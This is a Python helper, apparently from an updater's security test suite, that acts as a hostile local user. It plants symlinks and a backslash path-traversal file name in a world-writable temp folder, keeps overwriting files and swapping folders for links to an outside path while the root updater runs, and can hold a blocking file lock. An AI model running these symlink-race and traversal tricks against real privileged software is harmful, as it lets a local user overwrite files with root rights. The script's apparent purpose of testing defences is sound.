#!/usr/bin/env python3
"""Another user of the machine, attacking the updater's temporary folder while
the updater (root) runs. Run as that user. Prints "ready" once the folder is
prepared, then works until its standard input ends or its time is up.

  attacker.py folder TEMP OUTSIDE SECONDS   make TEMP first (mode 0777), plant
      links to OUTSIDE and a name that climbs out, then keep overwriting every
      file it can reach, swapping folders for links to OUTSIDE
  attacker.py lock PATH SECONDS             create PATH and hold an exclusive lock on it
"""
import fcntl
import os
import selectors
import sys
import time

EVIL = b'bytes of another user'


def plant(temp, outside):
    os.mkdir(temp)
    os.chmod(temp, 0o777)
    os.symlink(os.path.join(outside, 'victim.txt'), os.path.join(temp, 'codelist.txt'))
    os.symlink(os.path.join(outside, 'victim.zip'), os.path.join(temp, 'codelist.txt.zip'))
    os.symlink(outside, os.path.join(temp, 'program'))
    os.mkdir(os.path.join(temp, 'share'))
    os.symlink(os.path.join(outside, 'victim.txt'), os.path.join(temp, 'share', 'license.txt'))
    # One Linux name; joined with "\" and read as a path it climbs two levels.
    with open(os.path.join(temp, '..\\..\\x'), 'wb') as f:
        f.write(EVIL)


def attack_once(temp, outside):
    for dirpath, dirs, names in os.walk(temp):
        for name in names:
            try:
                with open(os.path.join(dirpath, name), 'r+b') as f:
                    f.write(EVIL)
            except OSError:
                pass
        for name in dirs:
            path = os.path.join(dirpath, name)
            try:
                os.rename(path, path + '.moved')
                os.symlink(outside, path)
            except OSError:
                pass


def stdin_ended(selector, wait=0.0):
    return bool(selector.select(wait)) and not os.read(sys.stdin.fileno(), 64)


def main():
    mode, deadline = sys.argv[1], time.monotonic() + float(sys.argv[-1])
    selector = selectors.DefaultSelector()
    selector.register(sys.stdin, selectors.EVENT_READ)
    held = None
    if mode == 'folder':
        temp, outside = sys.argv[2], sys.argv[3]
        plant(temp, outside)
    else:
        held = open(sys.argv[2], 'wb')
        fcntl.flock(held, fcntl.LOCK_EX | fcntl.LOCK_NB)
    print('ready', flush=True)
    while time.monotonic() < deadline and not stdin_ended(selector):
        if mode == 'folder':
            attack_once(temp, outside)
        elif stdin_ended(selector, max(0.0, deadline - time.monotonic())):
            break
    if held:
        held.close()


if __name__ == '__main__':
    main()
